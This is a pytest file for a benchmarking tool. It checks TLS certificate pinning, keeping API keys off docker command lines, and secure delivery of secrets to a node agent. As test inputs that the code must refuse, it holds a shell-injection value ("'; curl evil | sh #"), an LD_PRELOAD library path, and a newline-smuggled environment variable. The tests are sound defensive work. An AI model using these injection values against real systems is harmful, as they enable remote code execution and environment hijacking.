"""Keys and secrets never travel in clear: the serving port and the node agent speak TLS with a
per-node certificate that every client pins; the API key is on no ``docker run`` argv; serving
secrets are not in the user-data but pushed to the agent over the pinned channel.

Real servers throughout: the hardware emulator and the node agent as processes (``python -m``),
the sandbox's node backing booted from a rendered boot script, real httpx/ssl clients.
"""

from __future__ import annotations

import asyncio
import copy
import json
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest

from bakeoff.bench.client.transport import StreamingClient
from bakeoff.core import pinning
from bakeoff.core.instance import Instance
from bakeoff.engines import sglang
from bakeoff.plan import load_plan, plan_from_dict
from bakeoff.serving import deploy as deploy_mod
from bakeoff.serving import tls, userdata
from bakeoff.serving.agent_client import AgentClient, AgentError
from bakeoff.serving.emulator.scripted import ScriptedServerProcess
from bakeoff.serving.readiness import NotReady, wait_ready
from tests.stub_host import docker_argv

KEY = "bk-" + "7" * 40
HF = "hf_" + "s3cr3tT0ken" * 3


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _target(provider="aws", **changes):
    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    t = copy.deepcopy(next(x for x in raw["targets"] if x["provider"] == provider))
    t.update(changes)
    raw["targets"] = [t]
    return plan_from_dict(raw).targets[0]


MODEL = _target("aws").model_spec.hf_id  # the emulator answers to the target's model


def _write_identity(d: Path, ident: tls.NodeTLS) -> tuple[Path, Path]:
    d.mkdir(parents=True, exist_ok=True)
    (d / "node.crt").write_text(ident.cert_pem)
    (d / "node.key").write_text(ident.key_pem)
    (d / "node.key").chmod(0o600)
    return d / "node.crt", d / "node.key"


def _wait_port(port: int, proc: subprocess.Popen, what: str) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"{what} exited with {proc.returncode}")
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.05)
    raise RuntimeError(f"{what} did not listen")


def _stop(proc: subprocess.Popen) -> None:
    proc.terminate()
    try:
        proc.wait(10)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait(10)


@pytest.fixture(scope="module")
def node_tls(tmp_path_factory):
    """This node's identity, and another node's (what an impostor or a mixed-up endpoint presents)."""
    d = tmp_path_factory.mktemp("tls")
    mine = tls.node_identity("run-transport", "b200-vllm")
    other = tls.node_identity("run-transport", "someone-else")
    cert, key = _write_identity(d, mine)
    return {"mine": mine, "other": other, "cert": cert, "key": key}


@pytest.fixture(scope="module")
def emulator(node_tls):
    """The hardware emulator (scripted timing) serving https with the node's certificate."""
    script = {"ttft_ms": 2, "itl_ms": 0.5}
    tls_files = (str(node_tls["cert"]), str(node_tls["key"]))
    with ScriptedServerProcess(script, served_model=MODEL, api_key=KEY, tls=tls_files) as srv:
        yield srv.url


# --- pinning ------------------------------------------------------------------------------------


def test_node_identity_is_per_node_and_stable_across_retries():
    a, b = tls.node_identity("r1", "t"), tls.node_identity("r1", "t")
    assert a.cert_pem == b.cert_pem and a.key_pem == b.key_pem  # a retried provision: the same cert
    assert tls.node_identity("r2", "t").cert_pem != a.cert_pem
    assert tls.node_identity("r1", "u").cert_pem != a.cert_pem
    assert "PRIVATE" not in repr(a) and a.key_pem not in repr(a)


def test_readiness_pins_the_node_certificate(emulator, node_tls):
    info = wait_ready(emulator, KEY, 20, model=MODEL, tls_cert=node_tls["mine"].cert_pem)
    assert info["models"]["data"][0]["id"] == MODEL
    with pytest.raises(NotReady, match="pinned certificate"):
        wait_ready(emulator, KEY, 1.0, model=MODEL, tls_cert=node_tls["other"].cert_pem)


def test_plain_http_to_a_tls_node_is_refused_before_any_key_is_sent(emulator, node_tls):
    with pytest.raises(ValueError, match="https"):
        wait_ready(emulator.replace("https", "http"), KEY, 1.0, tls_cert=node_tls["mine"].cert_pem)
    with pytest.raises(httpx.HTTPError):  # the server does not speak clear text at all
        httpx.get(emulator.replace("https", "http") + "/health", timeout=3)


def test_benchmark_client_pins_and_refuses_another_certificate(emulator, node_tls):
    async def one(cert):
        c = StreamingClient(emulator, api_key=KEY, timeout_s=10, tls_cert=cert)
        try:
            return await c.stream(
                c.build("/v1/completions", {"model": MODEL, "prompt": "hi", "max_tokens": 4, "stream": True})
            )
        finally:
            await c.close()

    ok = asyncio.run(one(node_tls["mine"].cert_pem))
    assert ok.status == 200 and ok.error is None
    refused = asyncio.run(one(node_tls["other"].cert_pem))
    assert refused.status is None and refused.error.kind == "connect_error"
    assert "CERTIFICATE_VERIFY_FAILED" in str(refused.error)


def test_a_public_ca_certificate_is_not_enough(emulator, node_tls):
    """Without the node's certificate a client verifies against the system CAs, which never vouch
    for a node's self-signed certificate: there is no 'verify off' path."""
    with httpx.Client(verify=pinning.client_context(emulator, None)) as c, pytest.raises(httpx.ConnectError):
        c.get(emulator + "/health")


def test_accuracy_gate_and_provenance_pin_through_the_endpoint(emulator, node_tls):
    from bakeoff.core.endpoint import Endpoint
    from bakeoff.serving.provenance import snapshot_provenance

    good = Endpoint(target="t", base_url=emulator, model=MODEL, stack="vllm", tls_cert=node_tls["mine"].cert_pem)
    bad = Endpoint(target="t", base_url=emulator, model=MODEL, stack="vllm", tls_cert=node_tls["other"].cert_pem)
    assert snapshot_provenance(good, KEY, include_metrics=False)["models"]["json"]["data"][0]["id"] == MODEL
    assert "error" in snapshot_provenance(bad, KEY, include_metrics=False)["models"]
    with httpx.Client(verify=bad.verify()) as c, pytest.raises(httpx.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):
        c.get(emulator + "/health")


def test_lm_eval_backend_refuses_a_pinned_node():
    from bakeoff.core.endpoint import Endpoint
    from bakeoff.quality.lm_eval_backend import evaluate

    ep = Endpoint(
        target="t",
        base_url="https://203.0.113.7:8000",
        model=MODEL,
        stack="vllm",
        tls_cert=tls.node_identity("r", "t").cert_pem,
    )
    with pytest.raises(RuntimeError, match="backend: builtin"):
        evaluate(ep, KEY, None)


def test_a_garbled_certificate_is_refused_naming_the_field():
    with pytest.raises(ValueError, match="tls_cert: not one PEM certificate"):
        pinning.pinned_context("-----BEGIN CERTIFICATE-----\nnot base64!\n-----END CERTIFICATE-----\n")


# --- the node agent over TLS, and serving secrets ------------------------------------------------


@pytest.fixture(scope="module")
def agent(tmp_path_factory, node_tls, emulator):
    d = tmp_path_factory.mktemp("agentnode")
    (d / "api_key").write_text(KEY + "\n")
    (d / "api_key").chmod(0o600)
    (d / "boot.log").write_text("bakeoff: boot\n")
    port = _free_port()
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "bakeoff",
            "agent",
            "--serve-url",
            emulator,
            "--key-file",
            str(d / "api_key"),
            "--log-dir",
            str(d),
            "--work-dir",
            str(d / "work"),
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
            "--tls-cert",
            str(node_tls["cert"]),
            "--tls-key",
            str(node_tls["key"]),
            "--secrets-file",
            str(d / "secrets" / "serve.env"),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    _wait_port(port, proc, "agent")
    yield {"url": f"https://127.0.0.1:{port}", "dir": d}
    _stop(proc)


def test_agent_serves_tls_pinned_and_refuses_an_impostor_pin(agent, node_tls):
    with AgentClient(agent["url"], KEY, tls_cert=node_tls["mine"].cert_pem) as c:
        assert c.wait_healthy(20, poll_s=0.1)["ok"]
    with (
        AgentClient(agent["url"], KEY, tls_cert=node_tls["other"].cert_pem) as c,
        pytest.raises(AgentError, match="pinned certificate"),
    ):
        c.health()
    with pytest.raises(httpx.HTTPError):
        httpx.get(agent["url"].replace("https", "http") + "/agent/health", headers={"Authorization": f"Bearer {KEY}"})


def test_secrets_reach_a_root_only_file_and_never_come_back(agent, node_tls):
    url, d = agent["url"], agent["dir"]
    anon = httpx.put(
        url + "/agent/secrets", json={"env": {"HF_TOKEN": HF}}, verify=pinning.pinned_context(node_tls["mine"].cert_pem)
    )
    assert anon.status_code == 401 and not (d / "secrets" / "serve.env").exists()
    with AgentClient(url, KEY, tls_cert=node_tls["mine"].cert_pem) as c:
        answer = c.put_secrets({"HF_TOKEN": HF})
        assert answer == {"ok": True, "names": ["HF_TOKEN"]} and HF not in json.dumps(answer)
        f = d / "secrets" / "serve.env"
        assert f.read_text() == f"HF_TOKEN={HF}\n" and stat.S_IMODE(f.stat().st_mode) == 0o600
        with open(d / "boot.log", "a") as log:
            log.write(f"vllm: token {HF}\n")
        assert HF not in c.logs() and "<secret>" in c.logs()


@pytest.mark.parametrize(
    "env",
    [
        {"LD_PRELOAD": "/tmp/x.so"},
        {"VLLM_API_KEY": "k" * 20},
        {"hf_token": "x"},
        {"HF_TOKEN": "a\nVLLM_API_KEY=owned"},
        {"HF_TOKEN": ""},
        {"HF_TOKEN": 5},
    ],
)
def test_secrets_the_node_must_not_take_are_refused_without_echo(agent, node_tls, env):
    with AgentClient(agent["url"], KEY, tls_cert=node_tls["mine"].cert_pem) as c, pytest.raises(AgentError) as err:
        c.put_secrets(env)
    assert "400" in str(err.value) and "env" in str(err.value)
    assert "owned" not in str(err.value) and "/tmp/x.so" not in str(err.value)


def test_deploy_pushes_secrets_before_readiness_and_pins_the_endpoint(agent, emulator, node_tls, tmp_path):
    host, port = emulator.rsplit("//", 1)[1].split(":")
    inst = Instance(
        provider="aws",
        id="i-1",
        target="b200-vllm",
        run_id="r",
        state="running",
        host=host,
        port=int(port),
        tls_cert=node_tls["mine"].cert_pem,
        agent_url=agent["url"],
    )
    assert inst.base_url == emulator  # https because the node has a certificate
    (agent["dir"] / "secrets" / "serve.env").unlink(missing_ok=True)
    pushed = deploy_mod.start_serving(_target("aws"), inst, api_key=KEY, out_dir=tmp_path, secrets={"HF_TOKEN": HF})
    assert pushed == ["HF_TOKEN"]
    ep = deploy_mod.check_serving(_target("aws"), inst, api_key=KEY, out_dir=tmp_path, waited_s=0, masked=(HF,))
    assert (agent["dir"] / "secrets" / "serve.env").read_text() == f"HF_TOKEN={HF}\n"
    assert ep.base_url == emulator and ep.tls_cert == node_tls["mine"].cert_pem
    for f in tmp_path.glob("*.json"):
        assert HF not in f.read_text() and KEY not in f.read_text()


def test_deploy_with_secrets_but_no_agent_fails_clearly(tmp_path):
    inst = Instance(
        provider="aws",
        id="i-1",
        target="b200-vllm",
        run_id="r",
        state="running",
        host="127.0.0.1",
        port=9,
        tls_cert=tls.node_identity("r", "t").cert_pem,
    )
    with pytest.raises(deploy_mod.DeployFailed, match="need the node agent") as err:
        deploy_mod.start_serving(_target("aws"), inst, api_key=KEY, out_dir=tmp_path, secrets={"HF_TOKEN": HF})
    assert HF not in str(err.value) and HF not in (tmp_path / "deploy.json").read_text()


# --- the boot script --------------------------------------------------------------------------------

AGENT = {
    "url": "https://bucket.s3.amazonaws.com/client.zip?sig=x",
    "sha256": "a" * 64,
    "requirements": ["httpx==0.28.1"],
}


def _spec(**kw):
    ident = tls.node_identity("r", "t")
    return {
        "api_key": KEY,
        "expires_at": time.time() + 3600,
        "shutdown_after_s": 3600,
        "agent": AGENT,
        "tls": {"cert": ident.cert_pem, "key": ident.key_pem},
        **kw,
    }


def _docker_run_words(script: str, cmd: str = "docker run -d --name bakeoff-serve") -> list[str]:
    """The serving ``docker run`` line as bash expands it (docker stubbed), with the key in scope."""
    line = next(x for x in script.splitlines() if x.startswith(cmd))
    return docker_argv(line, f"BAKEOFF_API_KEY={KEY}")


@pytest.mark.parametrize("stack", ["vllm", "sglang"])
def test_the_key_is_on_no_docker_argv_and_the_server_serves_tls(stack):
    t = _target("aws", stack=stack, kv_cache_dtype="fp8")
    s = userdata.render_for(t, _spec())
    words = _docker_run_words(s)
    assert KEY not in " ".join(words) and "--api-key" not in words
    assert words[words.index("--ssl-certfile") + 1] == userdata.TLS_CERT
    assert words[words.index("--ssl-keyfile") + 1] == userdata.TLS_KEY
    if stack == "vllm":
        assert "printf 'VLLM_API_KEY=%s\\n' \"$(cat /etc/bakeoff/api_key)\" > /etc/bakeoff/key.env" in s
        assert words[words.index("/etc/bakeoff/key.env") - 1] == "--env-file"
    else:
        assert words[words.index("--config") + 1] == sglang.SGLANG_CONFIG
    assert s.count(KEY) == 1  # once, into the root-only file
    # wherever the script reads the key back, only bash's printf builtin sees it (no process argv)
    readers = [x.strip() for x in s.splitlines() if "$(cat /etc/bakeoff/api_key)" in x]
    assert readers and all(x.startswith("printf ") for x in readers), readers
    agent_line = next(x for x in s.splitlines() if "exec python -m bakeoff agent" in x)
    assert "--serve-url https://127.0.0.1:" in agent_line and "--tls-key /etc/bakeoff/tls/node.key" in agent_line
    subprocess.run(["bash", "-n"], input=s, text=True, check=True)


def test_serving_secrets_are_not_in_user_data_and_the_node_waits_for_them():
    s = userdata.render_for(_target("aws"), _spec(secrets={"HF_TOKEN": HF}))
    assert HF not in s and userdata.secret_names_from_userdata(s) == ["HF_TOKEN"]
    assert userdata.SECRETS_ENV not in _docker_run_words(s)  # the serving container never gets them
    wait, run = s.index(f"until [ -s {userdata.SECRETS_ENV} ]"), s.index("docker run -d --name bakeoff-serve")
    assert wait < run and f"-ge {userdata.SECRETS_WAIT_S}" in s  # bounded, and before the server starts
    assert f"--secrets-file {userdata.SECRETS_ENV}" in s


def test_secrets_without_a_node_agent_are_refused_before_launch():
    with pytest.raises(ValueError, match=r"targets\.[^.]+\.secrets: .*no client bundle"):
        userdata.render_for(_target("aws"), _spec(agent=None, secrets={"HF_TOKEN": HF}))


def test_a_tls_key_that_is_not_a_pem_key_is_refused():
    with pytest.raises(ValueError, match="spec.tls.key"):
        userdata.render_for(
            _target("aws"), _spec(tls={"cert": tls.node_identity("r", "t").cert_pem, "key": "'; curl evil | sh #"})
        )


def test_the_sandbox_node_boots_tls_from_its_user_data(tmp_path, node_tls):
    """The fake clouds' node: the emulator serves the certificate the user-data carried."""
    from bakeoff_sandbox.backing import Backing

    ident = tls.node_identity("r-sandbox", "b200")
    s = userdata.render_for(_target("aws"), _spec(agent=None, tls={"cert": ident.cert_pem, "key": ident.key_pem}))
    assert userdata.tls_from_userdata(s) == {"cert": ident.cert_pem, "key": ident.key_pem}
    b = Backing(tmp_path)
    try:
        assert b.boot("aws", "i-tls", s)
        host, port = b.address("aws", "i-tls")
        url = f"https://{host}:{port}"
        t = _target("aws")
        assert wait_ready(url, KEY, 60, model=t.model_spec.hf_id, tls_cert=ident.cert_pem)
        with pytest.raises(NotReady, match="pinned certificate"):
            wait_ready(url, KEY, 1.0, tls_cert=node_tls["other"].cert_pem)
        key_file = next(tmp_path.rglob("node.key"))
        assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    finally:
        b.close()


def test_provision_gives_cloud_nodes_a_pinned_https_endpoint():
    """What the pipeline stores for later tasks: the public certificate, never the private key."""
    from bakeoff.run import provisioning

    pems, cert = provisioning.node_tls(_target("aws"), "r-prov", has_secrets=False, has_agent=False)
    assert cert == tls.node_identity("r-prov", _target("aws").slug).cert_pem
    assert pems is not None and pems["key"].startswith("-----BEGIN PRIVATE KEY-----")
    inst = Instance(
        provider="aws",
        id="i",
        target="t",
        run_id="r",
        state="running",
        host="203.0.113.7",
        port=8000,
        tls_cert=cert,
    )
    assert inst.base_url == "https://203.0.113.7:8000" and "PRIVATE" not in json.dumps(inst.to_dict())
    local = _target("aws").model_copy(update={"provider": "local"})
    assert provisioning.node_tls(local, "r", False, False) == (None, None)  # loopback emulator: plain http (local.py)


def test_provision_refuses_secrets_without_an_agent_before_any_cloud_call():
    from bakeoff.providers import ProviderError
    from bakeoff.run import provisioning

    with pytest.raises(ProviderError, match=r"secrets: .*no client bundle") as err:
        provisioning.node_tls(_target("aws"), "r", has_secrets=True, has_agent=False)
    assert HF not in str(err.value)
